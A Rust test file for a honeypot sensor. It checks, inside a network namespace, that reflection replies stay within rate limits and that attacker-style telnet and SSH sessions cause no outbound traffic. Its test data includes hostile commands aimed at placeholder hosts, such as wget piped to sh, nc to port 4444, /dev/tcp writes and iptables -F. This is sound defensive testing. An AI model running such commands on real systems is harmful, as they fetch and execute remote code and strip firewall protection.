//! What leaves a sensor that holds out lures, counted outside its process: the namespace's only way out is a device that
//! this test reads.

use noroshi_model::Addr;
use noroshi_sensor::first::device;
use std::collections::BTreeMap;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpStream;
use std::os::fd::OwnedFd;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

const INSIDE: &str = "NOROSHI_TEST_INSIDE_NAMESPACE";
/// Nothing here takes this long unless it hangs.
const PATIENCE: Duration = Duration::from_secs(120);
/// The sensor's address.
const LURE: &str = "192.0.2.1";
/// IP and UDP headers.
const HEADERS: usize = 28;
/// Link header that the budget counts as well.
const LINK: usize = 14;

/// How often something is done; more when that is asked for.
fn often(name: &str, usual: usize) -> usize {
    std::env::var(name).map_or(usual, |text| text.parse().unwrap())
}

/// Runs `test` of this file again, as root of a new user and network namespace.
fn in_namespace(test: &str) {
    let made = Command::new("unshare").args(["-rn", "true"]).status();
    if !made.is_ok_and(|status| status.success()) || !std::path::Path::new("/dev/net/tun").exists() {
        assert!(std::env::var_os("CI").is_none(), "namespaces or TUN devices are not available");
        println!("skipped: this machine makes no network namespaces");
        return;
    }
    let mut command = Command::new("unshare");
    command.arg("-rn").arg(std::env::current_exe().unwrap()).args(["--exact", test, "--nocapture"]).env(INSIDE, "1");
    let done = command.output().unwrap();
    let text = String::from_utf8_lossy(&done.stdout);
    print!("{text}{}", String::from_utf8_lossy(&done.stderr));
    assert!(done.status.success());
    assert!(text.contains("1 passed"), "the test inside did not run");
}

fn ip(arguments: &str) {
    assert!(Command::new("ip").args(arguments.split(' ')).status().unwrap().success(), "ip {arguments}");
}

/// The world: everything that is not the sensor's address is behind this device.
struct World {
    device: OwnedFd,
}

impl World {
    fn make() -> World {
        let device = device::open("world0").unwrap();
        for command in [
            "link set lo up",
            &format!("addr add {LURE}/32 dev world0"),
            "link set world0 up",
            "route add default dev world0",
            "-6 addr add 2001:db8::1/128 dev world0 nodad",
            "-6 route add default dev world0",
        ] {
            ip(command);
        }
        World { device }
    }

    /// One packet that left, unless none did for as long as `wait`. What the kernel says to its neighbours over IPv6 when
    /// an interface comes up is not the sensor's.
    fn left(&self, wait: Duration) -> Option<Vec<u8>> {
        use nix::poll::{PollFd, PollFlags, PollTimeout, poll};
        use std::os::fd::AsFd;
        let until = Instant::now() + wait;
        let mut buffer = vec![0; 4_096];
        loop {
            let mut fds = [PollFd::new(self.device.as_fd(), PollFlags::POLLIN)];
            let left = until.saturating_duration_since(Instant::now());
            poll(&mut fds, PollTimeout::try_from(left).unwrap()).unwrap();
            match nix::unistd::read(&self.device, &mut buffer) {
                Ok(length) if buffer[0] >> 4 == 6 && length > 0 && matches!(buffer[6], 0 | 58) => {}
                Ok(length) => return Some(buffer[..length].to_vec()),
                Err(nix::errno::Errno::EAGAIN) if Instant::now() >= until => return None,
                Err(_) => {}
            }
        }
    }

    /// A datagram arrives, by its own account from `src`.
    fn arrives(&self, src: u32, sport: u16, dport: u16, payload: &[u8]) {
        let lure: Addr = LURE.parse().unwrap();
        let length = HEADERS + payload.len();
        let mut packet = vec![0x45, 0, (length >> 8) as u8, length as u8, 0, 0, 0x40, 0, 60, 17, 0, 0];
        packet.extend(src.to_be_bytes());
        packet.extend(lure.as_v4().unwrap().to_be_bytes());
        let sum: u32 = packet.chunks(2).map(|pair| u32::from(pair[0]) << 8 | u32::from(pair[1])).sum();
        // The carry of the first fold counts too.
        let folded = (sum & 0xffff) + (sum >> 16);
        let check = !((folded & 0xffff) + (folded >> 16)) as u16;
        packet[10..12].copy_from_slice(&check.to_be_bytes());
        packet.extend(sport.to_be_bytes());
        packet.extend(dport.to_be_bytes());
        packet.extend(((8 + payload.len()) as u16).to_be_bytes());
        // A checksum of zero is none (RFC 768).
        packet.extend([0, 0]);
        packet.extend(payload);
        nix::unistd::write(&self.device, &packet).unwrap();
    }
}

/// The sensor's program with its lures, until the test is done with it.
struct Lures {
    child: Child,
    rows: std::sync::mpsc::Receiver<String>,
}

impl Drop for Lures {
    fn drop(&mut self) {
        drop(self.child.kill());
        drop(self.child.wait());
    }
}

/// Well-formed requests that are answered, by port.
fn requests() -> Vec<(&'static str, u16, Vec<u8>)> {
    let dns = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x07example\x03com\0\0\x01\0\x01".to_vec();
    let mut ntp = vec![0x23];
    ntp.resize(48, 0);
    let memcached = b"\0\x01\0\0\0\x01\0\0version\r\n".to_vec();
    vec![("dns", 53, dns), ("ntp", 123, ntp), ("memcached", 11_211, memcached)]
}

impl Lures {
    fn start(warm_up: u32, more: &[&str]) -> Lures {
        let mut command = Command::new(env!("CARGO_BIN_EXE_noroshi-sensor"));
        command.args(["lure", "--beyond-loopback", "--warm-up", &warm_up.to_string()]).args(more);
        for (name, port, _) in requests() {
            command.arg("--service").arg(format!("{name}={LURE}:{port}"));
        }
        let mut child = command.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
        let mut log = BufReader::new(child.stderr.take().unwrap());
        let mut line = String::new();
        while !line.contains("memcached on") {
            line.clear();
            assert!(log.read_line(&mut line).unwrap() > 0, "it ended before it served");
        }
        // Dialogues are announced after the datagrams.
        let doors = more.iter().any(|word| ["--telnet", "--ssh"].contains(word));
        while doors && !line.contains("telnet on") && !line.contains("ssh on") {
            line.clear();
            assert!(log.read_line(&mut line).unwrap() > 0, "it ended before it served");
        }
        std::thread::spawn(move || std::io::copy(&mut log, &mut std::io::sink()));
        let (sender, rows) = std::sync::mpsc::channel();
        let out = BufReader::new(child.stdout.take().unwrap());
        std::thread::spawn(move || out.lines().map_while(Result::ok).try_for_each(|line| sender.send(line)));
        Lures { child, rows }
    }

    /// Waits until so many requests are rows: all of them were looked at, so what they caused has left.
    fn seen(&self, count: usize) {
        for n in 0..count {
            self.rows.recv_timeout(PATIENCE).unwrap_or_else(|_| panic!("{n} of {count} rows"));
        }
    }
}

/// Bytes and packets that left, by the network they went to.
fn drain(world: &World) -> BTreeMap<u32, (usize, usize)> {
    let mut out: BTreeMap<u32, (usize, usize)> = BTreeMap::new();
    while let Some(packet) = world.left(Duration::from_millis(300)) {
        let to = u32::from_be_bytes(packet[16..20].try_into().unwrap());
        let entry = out.entry(to >> 8).or_default();
        entry.0 += 1;
        entry.1 += packet.len() + LINK;
    }
    out
}

#[test]
fn replies_stay_within_every_bound_as_counted_outside() {
    const NAME: &str = "harmless::replies_stay_within_every_bound_as_counted_outside";
    if std::env::var_os(INSIDE).is_none() {
        return in_namespace(NAME);
    }
    let (world, all) = (World::make(), requests());
    // Sent in portions that the receive buffer holds, so that each becomes a row.
    let burst = |lures: &Lures, count: u32, source: &dyn Fn(u32) -> u32| {
        for n in 0..count {
            let (_, port, payload) = &all[n as usize % all.len()];
            world.arrives(source(n), 40_000, *port, payload);
            if n % 250 == 249 {
                lures.seen(250);
            }
        }
        lures.seen(count as usize % 250);
    };
    // An honest client gets an answer; without this the rest would prove nothing.
    let lures = Lures::start(0, &[]);
    burst(&lures, 3, &|_| 0x0808_0808);
    let one = drain(&world);
    assert_eq!(one.get(&0x08_0808).map(|sent| sent.0), Some(3), "{one:?}");
    // One victim, a network, and rotating protocols: five replies and 4 KiB an hour in all.
    burst(&lures, 3_000, &|_| 0x0900_0001);
    burst(&lures, 3_000, &|n| 0x0900_0100 + n % 256);
    let sent = drain(&world);
    assert!(sent.values().all(|(packets, bytes)| *packets <= 5 && *bytes <= 4_096), "{sent:?}");
    // Many victims: 16 kbit/s in all. Delays only make the span longer than the sensor's own.
    let victims = often("NOROSHI_HARMLESS_VICTIMS", 20_000) as u32;
    let begun = Instant::now();
    let mut sent: BTreeMap<u32, (usize, usize)> = BTreeMap::new();
    for from in (0..victims).step_by(20_000) {
        burst(&lures, 20_000.min(victims - from), &|n| 0x0a00_0000 + (from + n) * 256);
        for (network, (packets, bytes)) in drain(&world) {
            let entry = sent.entry(network).or_default();
            *entry = (entry.0 + packets, entry.1 + bytes);
        }
    }
    let seconds = begun.elapsed().as_secs_f64();
    let bytes: usize = sent.values().map(|(_, bytes)| bytes).sum();
    println!("{bytes} bytes left in {seconds:.1} s for {victims} forged victims in as many networks");
    assert!(bytes > 0 && bytes as f64 <= 2_000.0 * (seconds + 1.0), "{bytes} bytes in {seconds} s");
    assert!(sent.values().all(|(packets, bytes)| *packets <= 5 && *bytes <= 4_096));
    drop(lures);
    // Restarts refill nothing: after each, an hour of silence.
    let restarts = often("NOROSHI_HARMLESS_RESTARTS", 5);
    for _ in 0..restarts {
        let lures = Lures::start(3_600, &[]);
        burst(&lures, 300, &|n| 0x0b00_0000 + n * 256);
        assert!(drain(&world).is_empty());
    }
    println!("{restarts} restarts, nothing left");
}

#[test]
fn dialogues_that_fetch_cause_no_packet() {
    const NAME: &str = "harmless::dialogues_that_fetch_cause_no_packet";
    if std::env::var_os(INSIDE).is_none() {
        return in_namespace(NAME);
    }
    let sessions = often("NOROSHI_HARMLESS_SESSIONS", 12);
    let world = World::make();
    // The way out works: what this test itself sends is seen.
    let probe = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
    probe.send_to(b"x", "203.0.113.9:9").unwrap();
    assert!(world.left(PATIENCE).is_some());
    let lures = Lures::start(3_600, &["--telnet", "127.0.0.1:2323", "--persona", "recorder"]);
    let fetch = [
        "wget http://203.0.113.9/a.sh",
        "curl -O http://203.0.113.9/b.sh",
        "tftp -g -r c 203.0.113.9",
        "ftpget 203.0.113.9 d d",
        "nc 203.0.113.9 4444",
        "ping -c 1 203.0.113.9",
        "wget http://[::ffff:203.0.113.9]/e",
        "curl http://[2001:db8::9]/f",
        "nslookup evil.example",
        "wget http://evil.example/g",
        "ssh root@203.0.113.9",
        "telnet 203.0.113.9",
        "cat /dev/tcp/203.0.113.9/80",
        "echo x > /dev/tcp/203.0.113.9/80",
        "iptables -F",
        "/bin/busybox wget http://203.0.113.9/h -O - | sh",
    ];
    // The recorder's fetches are refused at once, so that nobody waits. As many at once as one source may have.
    for from in (0..sessions).step_by(48) {
        let wave = from..sessions.min(from + 48);
        let mut visitors: Vec<TcpStream> =
            wave.clone().map(|_| TcpStream::connect("127.0.0.1:2323").unwrap()).collect();
        for (n, visitor) in wave.clone().zip(&mut visitors) {
            let one = fetch[n % fetch.len()];
            let script = format!("root\r\n123456\r\n{one}\r\nexit\r\nexit\r\n");
            visitor.write_all(script.as_bytes()).unwrap();
        }
        for mut visitor in visitors {
            visitor.set_read_timeout(Some(PATIENCE)).unwrap();
            drop(visitor.read_to_end(&mut Vec::new()));
        }
        lures.seen(wave.len());
    }
    assert_eq!(world.left(Duration::from_millis(300)), None, "something left");
    println!("{sessions} sessions, nothing left");
}

/// OpenSSH asks to be led to addresses that are not the sensor's, in every way it knows.
#[cfg(feature = "ssh")]
#[test]
fn forwards_over_ssh_cause_no_packet() {
    const NAME: &str = "harmless::forwards_over_ssh_cause_no_packet";
    if !super::space::have("ssh") {
        return;
    }
    if std::env::var_os(INSIDE).is_none() {
        return in_namespace(NAME);
    }
    use std::os::unix::fs::PermissionsExt;
    let world = World::make();
    let lures = Lures::start(3_600, &["--ssh", "127.0.0.1:2222", "--persona", "recorder"]);
    let folder = tempfile::tempdir().unwrap();
    let ask = folder.path().join("ask.sh");
    std::fs::write(&ask, "#!/bin/sh\necho 123456\n").unwrap();
    std::fs::set_permissions(&ask, std::fs::Permissions::from_mode(0o700)).unwrap();
    let ways: [&[&str]; 7] = [
        &["-W", "203.0.113.9:80", "root@127.0.0.1"],
        &["-W", "[::ffff:203.0.113.9]:80", "root@127.0.0.1"],
        &["-W", "[2001:db8::9]:80", "root@127.0.0.1"],
        &["-W", "evil.example:80", "root@127.0.0.1"],
        &["-N", "-R", "7003:203.0.113.9:80", "root@127.0.0.1"],
        &["-w", "0:0", "root@127.0.0.1", "wget http://203.0.113.9/a"],
        &["-A", "root@127.0.0.1", "ssh -L 1:203.0.113.9:22 root@203.0.113.9; nc 203.0.113.9 1"],
    ];
    for way in ways {
        let mut command = Command::new("ssh");
        command.env("SSH_ASKPASS", &ask).env("SSH_ASKPASS_REQUIRE", "force").env("DISPLAY", "none");
        command.args(["-F", "/dev/null", "-p", "2222", "-o", "PubkeyAuthentication=no"]);
        command.args(["-o", "ExitOnForwardFailure=yes", "-o", "StrictHostKeyChecking=no"]);
        command.args(["-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR"]).args(way);
        assert!(!command.stdin(Stdio::null()).status().unwrap().success(), "{way:?} led somewhere");
        let row = lures.rows.recv_timeout(PATIENCE).unwrap();
        // The library refuses tunnels on its own account.
        let noted = way[0] == "-w" || row.contains("203.0.113.9") || row.contains("forward");
        assert!(row.contains("root:123456") && noted, "{row}");
    }
    assert_eq!(world.left(Duration::from_millis(300)), None, "something left");
}

#[test]
fn every_port_of_a_prefix_takes_a_first_payload() {
    const NAME: &str = "harmless::every_port_of_a_prefix_takes_a_first_payload";
    if std::env::var_os(INSIDE).is_none() {
        return in_namespace(NAME);
    }
    use noroshi_sensor::lure::message::{Order, Said, read};
    use noroshi_sensor::lure::worker;
    ip("link set lo up");
    ip("tuntap add dev lure0 mode tun");
    for command in ["addr add 198.51.100.1/32 dev lure0", "link set lure0 up", "route add 192.0.2.0/24 dev lure0"] {
        ip(command);
    }
    let runtime = tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build().unwrap();
    let rows = runtime.block_on(async {
        let prefixes = Some(vec!["192.0.2.0/25".parse().unwrap()]);
        let order = Order { device: Some(("lure0".into(), prefixes)), ..Order::default() };
        let (_ours, input) = tokio::io::duplex(1 << 10);
        let (output, mut said) = tokio::io::duplex(1 << 20);
        let bound = worker::bind(&order).unwrap();
        tokio::spawn(worker::serve(bound, String::new(), input, output));
        let mut rows = Vec::new();
        let sent: [(&str, &[u8]); 3] = [
            ("192.0.2.7:8545", b"POST / HTTP/1.1\r\nHost: node.example\r\nUser-Agent: probe/1\r\n\r\n{}"),
            ("192.0.2.99:2222", b"SSH-2.0-Go\r\n"),
            ("192.0.2.1:3389", b"\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00Cookie: mstshash=admin\r\n"),
        ];
        for (to, payload) in sent {
            let payload = payload.to_vec();
            let visit = tokio::task::spawn_blocking(move || {
                let mut stream = TcpStream::connect(to).unwrap();
                stream.write_all(&payload).unwrap();
                // The goodbye is a reset.
                assert!(stream.read(&mut [0; 8]).is_err());
            });
            visit.await.unwrap();
            loop {
                if let Some(Said::Dialogue(kept)) = read(&mut said).await.unwrap() {
                    rows.push(kept.session);
                    break;
                }
            }
        }
        // Outside the prefix that the policy names nobody answers.
        let outside =
            tokio::time::timeout(Duration::from_millis(500), tokio::net::TcpStream::connect("192.0.2.200:80"));
        assert!(outside.await.is_err());
        rows
    });
    let told: Vec<(&str, Option<u16>)> = rows.iter().map(|row| (row.protocol.as_str(), row.dport)).collect();
    assert_eq!(told, [("http", Some(8_545)), ("ssh", Some(2_222)), ("rdp", Some(3_389))]);
    assert_eq!(rows[1].client.as_deref(), Some("SSH-2.0-Go"));
    assert!(rows[2].extra.contains("admin"), "{}", rows[2].extra);
    assert_eq!(rows[0].src.unwrap().to_string(), "198.51.100.1");
}
